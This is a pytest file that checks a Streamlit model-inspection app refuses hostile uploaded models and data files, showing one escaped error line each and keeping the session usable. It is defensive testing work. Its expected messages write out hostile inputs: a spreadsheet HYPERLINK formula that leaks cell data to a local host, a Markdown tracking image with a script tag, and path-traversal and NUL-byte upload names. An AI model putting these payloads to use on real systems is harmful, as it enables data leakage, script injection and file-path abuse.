"""One browser session meets the hostile corpus: every refusal is one named line, no code runs,
and the session goes on working after each.

A single AppTest session uploads a representative hostile model from each category, with a
good model uploaded after every refusal (its title must show), then hostile data files
against that good model.
"""

from __future__ import annotations

import pytest
from test_hostile import EXPECTED

import hostile
from apptest_support import new_app
from components.model.samples import get_sample
from components.text_safety import escape_markdown

# (corpus name, category): the expected fragment is test_hostile's EXPECTED message
MODELS = [
    ("lambda_keras", "code"),
    ("custom_registered_keras_module", "code"),
    ("lambda_keras_function", "code"),
    ("module_subprocess", "module"),
    ("huge_units", "resources"),
    ("vocabulary_path", "resources"),
    ("zip_bomb_config", "archive"),
    ("dotdot_member", "archive"),
    ("ten_thousand_members", "archive"),
    ("h5_external_link", "hdf5"),
    ("h5_few_gib_dataset", "hdf5"),
    ("layer_name_newline", "names"),
    ("polyglot_png", "broken"),
    ("truncated", "broken"),
]

# (corpus name in hostile.build_data_corpus, fragment of the one error line); the file is
# refused as it is read ("Dataset refused: ...") or read, then fails one check by name
DATA = [
    ("formula_cells", "column 'alcohol': 4 non-numeric cells, first "
                      "'=HYPERLINK(\"http://127.0.0.1:9/?\"&A1)'"),
    ("duplicate_columns", "dup.csv has duplicate column names: 'ash'"),
    ("latin1", "latin.csv is not UTF-8 text (byte 3)"),
    ("object_npy", "objects.npy holds Python objects (dtype object)"),
    ("huge_npy_header", "huge.npy declares shape (1000000, 1000000)"),
    ("png_bomb", "bomb.png declares over 16,777,216 pixels"),
    ("traversal_name", "evil.csv is not UTF-8 text (byte 3)"),
    ("markup_column", "unexpected '![t](http://127.0.0.1:9/track.png)<script>alert(1)"
                      "</script>'"),
]

READ_REFUSALS = {"duplicate_columns", "latin1", "object_npy", "huge_npy_header", "png_bomb",
                 "traversal_name"}


def _errors(at) -> list[str]:
    """The error lines as sent to the browser: Markdown in user data is escaped."""
    return [e.value for e in at.error]


def _shows(line: str, fragment: str) -> bool:
    """``fragment`` appears in ``line`` literally (escaping works per character)."""
    return escape_markdown(fragment) in line


@pytest.fixture(scope="module")
def corpora(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile_ui")
    canary = tmp / "canary.txt"
    models = hostile.build_corpus(tmp, canary)
    canary.unlink()
    wine = get_sample("wine_classifier")
    data = hostile.build_data_corpus(wine.data_path.read_bytes())
    # Streamlit itself refuses a NUL in an upload's name (see the last test): the browser
    # path gets the traversal without it
    data["traversal_name"] = (data["latin1"][0], "../../etc/evil.csv")
    return models, data, canary


@pytest.fixture(scope="module")
def session():
    at = new_app()
    at.run()
    at.selectbox(key="model_choice").select("__upload__").run()
    assert not at.exception
    yield at
    from components.model import worker

    worker.shutdown()  # the good model's worker process (and the spare)


def test_categories_are_covered():
    assert {category for _, category in MODELS} == {"code", "module", "resources", "archive",
                                                    "hdf5", "names", "broken"}


def test_one_session_refuses_each_model_and_goes_on(session, corpora):
    models, _, canary = corpora
    wine = get_sample("wine_classifier")
    good = wine.model_path.read_bytes()
    uploader = session.file_uploader(key="model_file")
    for name, _ in MODELS:
        data, filename = models[name]
        uploader.upload(filename, data).run()
        assert not session.exception, name
        errors = _errors(session)
        assert len(errors) == 1, (name, errors)
        assert errors[0].startswith("Model refused: "), (name, errors)
        assert _shows(errors[0], EXPECTED[name][1]), (name, errors)
        assert not canary.exists(), name
        # the session still works: a good upload replaces the refused one
        session.file_uploader(key="model_file").upload("wine.keras", good).run()
        assert not session.exception, name
        assert _errors(session) == [], (name, _errors(session))
        assert session.title[0].value == "Wine classifier", name
        uploader = session.file_uploader(key="model_file")


def test_then_hostile_data_files_against_the_good_model(session, corpora):
    _, data_files, canary = corpora
    assert session.title[0].value == "Wine classifier"
    for name, fragment in DATA:
        data, filename = data_files[name]
        session.file_uploader(key="data_file").upload(filename, data).run()
        assert not session.exception, name
        errors = _errors(session)
        assert len(errors) == 1, (name, errors)
        assert _shows(errors[0], fragment), (name, errors)
        assert errors[0].startswith("Dataset refused: ") == (name in READ_REFUSALS), errors
        assert "\n" not in errors[0]
        assert not canary.exists(), name
        assert session.title[0].value == "Wine classifier", name
        assert "![t](" not in errors[0] and "<script>" not in errors[0]  # text, not markup
    # and a good data file is still accepted afterwards
    wine = get_sample("wine_classifier")
    session.file_uploader(key="data_file").upload("wine.csv", wine.data_path.read_bytes()).run()
    assert not session.exception
    assert _errors(session) == []


def test_a_nul_in_an_upload_name_is_refused_by_streamlit_and_the_session_recovers(corpora):
    """Streamlit checks upload names itself (a NUL could hide the real suffix) and raises
    before the app's code runs: the page shows Streamlit's redacted error (no details, as
    .streamlit/config.toml asks), not a Glassbox one-liner. The next run works again."""
    _, data_files, canary = corpora
    at = new_app()
    at.run()
    at.file_uploader(key="data_file").upload("../../etc/evil\x00.csv",
                                             data_files["latin1"][0]).run()
    assert len(at.exception) == 1
    assert "redacted" in at.exception[0].message and "null" not in at.exception[0].message
    at.run()
    assert not at.exception
    assert at.title[0].value == "Wine cultivar classifier"
    assert not canary.exists()
